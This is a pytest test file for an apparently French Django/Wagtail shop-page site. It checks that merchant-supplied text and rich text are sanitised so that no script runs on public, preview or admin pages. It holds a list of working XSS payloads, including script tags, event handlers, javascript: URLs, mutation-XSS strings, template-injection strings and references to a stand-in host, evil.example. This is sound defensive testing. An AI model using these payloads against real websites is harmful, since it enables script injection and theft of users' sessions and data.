"""Scripts in whatever a shop writes are dead wherever they are shown."""

import json
import re
from html import unescape
from html.parser import HTMLParser

from django.utils.html import escape

import pytest

from core.plain_text import paragraphs, plain, tidy_line
from core.sanitising import clean_html
from merchants.fiche.drafts import save_words
from merchants.fiche.sending import send
from merchants.fiche.words import Picture
from shops.models import ShopPage
from tests.factories.fiches import decide, kept_fiche, member, president, upload

pytestmark = pytest.mark.any_database

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)//",
    '<img src="x:x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href="javascript:alert(1)">ici</a>',
    '<a href="JaVa\tScRiPt:alert(1)">ici</a>',
    '<a href=" &#106;avascript:alert(1)">ici</a>',
    '<a href="data:text/html,<script>alert(1)</script>">ici</a>',
    '<a href="vbscript:msgbox(1)">ici</a>',
    '<a linktype="page" id="x\'" onclick="alert(1)">ici</a>',
    '<a linktype="page" id="99999999999999999999999">ici</a>',
    '<embed embedtype="media" url="https://evil.example/">',
    '<embed embedtype="image" id="1" alt="x" format="left">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<form action="https://evil.example"><input name=x><button>ok</button></form>',
    '<p style="background:url(javascript:alert(1))" onmouseover="alert(1)">x</p>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '"><script>alert(1)</script>',
    "'-alert(1)-'</script><script>alert(1)</script>",
    "</title></textarea><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% load x %}<b onclick=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
# What ends the text, the attribute, the element or the script in which it may stand.
DECISIVE = [
    '"><script>alert(1)</script>',
    "'-alert(1)-'</script><script>alert(1)</script>",
    "</title></textarea><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% load x %}<b onclick=alert(1)>x</b>",
]
ALL_IN_ONE = "\n\n".join(PAYLOADS)
HARMFUL_TAGS = {"iframe", "object", "embed", "base", "math", "style", "form"}


class Reader(HTMLParser):
    """What a browser would run or load of a page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.faults, self.data, self.in_json = [], [], "", False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        values = dict(attrs)
        if tag == "script" and not (
            values.get("src", "").startswith("/static/")
            or values.get("type") in ("application/ld+json", "application/json")
        ):
            self.faults.append((tag, attrs))
        for name, value in attrs:
            if (tag, name) == ("meta", "http-equiv"):
                self.faults.append((tag, name, value))
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if (
                name.startswith("on")
                or address.startswith(("javascript:", "vbscript:", "data:text"))
                or ("evil.example" in address and name in ("href", "src", "action"))
            ):
                self.faults.append((tag, name, value))


def read(html):
    reader = Reader()
    reader.feed(html)
    return reader


def assert_dead(html, before=None):
    reader = read(html)
    assert reader.faults == []
    allowed = {"form"} if before is None else set(before.tags)
    assert HARMFUL_TAGS & set(reader.tags) <= allowed
    for text in re.findall(r'ld\+json">(.*?)</script>', html, re.DOTALL):
        json.loads(text)


@pytest.fixture
def page(db):
    return kept_fiche()


@pytest.fixture
def owner(page, client):
    user = member(page)
    client.force_login(user)
    return user


@pytest.mark.parametrize("payload", DECISIVE)
def test_script_in_the_words_is_dead_on_every_page(client, page, owner, payload):
    room = f"/fr/mon-commerce/{page.shop.pk}/"
    image = upload(page.shop)
    public_before = read(client.get(page.path_url).content.decode())
    operator = president(page)

    client.post(f"{room}sentence/", {"summary": payload[:140]})
    client.post(f"{room}story/", {"story": ALL_IN_ONE})
    typed = {"order": "", "do": f"add:{image.pk}"}
    client.post(f"{room}photos/", typed)
    client.post(f"{room}photos/", {"order": image.pk, f"alt-{image.pk}": payload})
    for step in ("sentence", "story", "photos", "send"):
        assert_dead(client.get(f"{room}{step}/").content.decode())
    preview = client.get(f"{room}preview/").content.decode()
    review = send(page.shop, owner)
    in_review = client.get(f"{room}story/").content.decode()
    decide(review, operator)
    public = client.get(page.path_url).content.decode()
    lists = [client.get(path).content.decode() for path in ("/fr/", "/fr/boutiques/")]

    assert escape(tidy_line(payload[:140])) in public
    lines = [tidy_line(line) for line in ALL_IN_ONE.splitlines()]
    assert [line for line in lines if line not in tidy_line(unescape(public))] == []
    for html in (preview, public):
        assert_dead(html, public_before)
    for html in (in_review, *lists):
        assert_dead(html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_script_in_rich_text_is_dead_once_cleaned(payload):
    cleaned = clean_html(f"<p>Avant</p>{payload}<p>Après</p>")

    assert_dead(cleaned)
    assert "Avant" in cleaned


@pytest.mark.parametrize("door", ["save", "publish"])
def test_script_in_a_body_is_dead_by_whichever_door(client, page, door):
    """What another interface than ours would write: rich text as it came."""
    before = read(client.get(page.path_url).content.decode())
    texts = [f"<p>Avant</p>{payload}<p>Après</p>" for payload in PAYLOADS]
    body = json.dumps(
        [{"type": "text", "value": html, "id": str(n)} for n, html in enumerate(texts)]
    )
    if door == "save":
        page.body = body
        page.save()
    else:
        changed = ShopPage.objects.get(pk=page.pk)
        changed.body = body
        revision = changed.save_revision(clean=False)
        kept = [block["value"] for block in json.loads(revision.content["body"])]
        assert kept == [clean_html(html) for html in texts]
        # As if the row of the revision had been written by hand.
        revision.content["body"] = body
        revision.save()
        revision.publish()

    shown = client.get(page.path_url)

    assert shown.status_code == 200
    assert_dead(shown.content.decode(), before)
    assert shown.content.decode().count("<p>Avant</p>") == len(PAYLOADS)


@pytest.mark.parametrize("payload", DECISIVE)
def test_script_is_dead_in_the_admin(client, page, owner, payload, operator):
    image = upload(page.shop)
    save_words(
        page.shop,
        owner,
        None,
        summary=payload,
        story=ALL_IN_ONE,
        pictures=[Picture(image.pk, payload)],
    )
    review = send(page.shop, owner)
    client.force_login(operator)

    for path in ("", f"pages/{page.pk}/history/", "reports/workflow/"):
        html = client.get(f"/admin/{path}").content.decode()
        assert not any(text in html for text in PAYLOADS)
    preview = client.get(
        f"/admin/pages/workflow/preview/{page.pk}/{review.task_state.task_id}/"
    )
    assert preview.status_code == 200
    assert_dead(
        preview.content.decode(), read(preview.content.decode().split("<main")[0])
    )


def test_rich_text_of_the_house_stays_as_it_is():
    html = (
        '<h2 data-block-key="a">Le four</h2><p data-block-key="b"><b>Du pain</b>, '
        '<i>ici</i> <a href="https://example.org/">site</a> '
        '<a href="mailto:a@example.org">mail</a> <a href="tel:+33320">tel</a> '
        '<a id="3" linktype="page">page</a></p>'
        '<ul><li data-block-key="c">un</li></ul>'
    )

    assert read(clean_html(html)).faults == []
    assert read(clean_html(html)).tags == read(html).tags
    assert clean_html(clean_html(html)) == clean_html(html)
    for kept in ('linktype="page" id="3"', "mailto:a@example.org", "tel:+33320"):
        assert kept in clean_html(html)


@pytest.mark.parametrize(
    "text",
    ["", "Un.", "Un\ndeux", "Un.\n\nDeux.", "a < b & c > d", "<b>gras</b>", "&amp;"],
)
def test_story_comes_back_as_it_was_typed(text):
    assert plain(clean_html(paragraphs(text))) == text
